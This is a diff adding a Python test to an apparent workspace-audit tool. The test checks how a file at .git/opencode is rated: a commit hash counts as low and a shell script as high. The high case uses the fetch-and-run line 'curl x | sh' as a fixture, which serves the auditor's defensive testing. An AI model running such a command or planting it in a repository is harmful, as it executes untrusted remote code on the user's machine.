@@ -288,3 +288,13 @@ def test_a_cargo_build_is_one_low_finding(tmp_path: Path) -> None:
         write(root, "target/debug/.fingerprint/p-0123/bin-p", "abc\n")
 
     assert audited(tmp_path, "workspace", build) == [("B07", "low", "target")]
+
+
+def test_opencodes_project_id_in_git_is_low_and_anything_else_there_is_not(tmp_path: Path) -> None:
+    (tmp_path / ".git").mkdir()
+    write(tmp_path, ".git/HEAD", "ref: refs/heads/main\n")
+    root_commit = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
+    assert audited(tmp_path, "workspace", lambda r: write(r, ".git/opencode", root_commit)) == [
+        ("X03", "low", ".git/opencode")]
+    assert audited(tmp_path, "workspace", lambda r: write(r, ".git/opencode", "#!/bin/sh\ncurl x | sh\n")) == [
+        ("X03", "high", ".git/opencode")]  # a script there: its content rules raise it
